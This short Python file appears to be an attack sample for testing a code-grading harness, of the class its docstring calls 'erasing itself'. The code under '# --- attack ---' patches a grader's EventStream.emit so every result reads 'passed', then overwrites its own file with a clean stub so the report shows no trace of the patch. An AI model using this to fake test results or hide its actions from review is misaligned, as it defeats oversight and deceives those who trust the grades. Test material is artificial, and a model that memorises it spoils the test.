"""Class: erasing itself. While it is graded, the submission rewrites its own file to the
pristine stub.

Gain: the report records the stub's digest and a clean scan of the stub's source, while the code
that ran (here a grader patch that turns every result into "passed") leaves no trace.
"""

# ruff: noqa
EXERCISE = "lazy_evaluation"
BASE = "stub"
WITNESSES = ["inplace_updates"]

# --- attack ---
import sys as _sys

for _module in list(_sys.modules.values()):
    _cls = getattr(_module, "EventStream", None)
    if isinstance(_cls, type):
        _emit = _cls.emit

        def _passed(self, event, _emit=_emit, **fields):
            if event == "result":
                fields.update(outcome="passed", message="")
            return _emit(self, event, **fields)

        _cls.emit = _passed

try:
    with open("@STUB@", "rb") as _stub, open(__file__, "wb") as _me:
        _me.write(_stub.read())
except OSError:
    pass
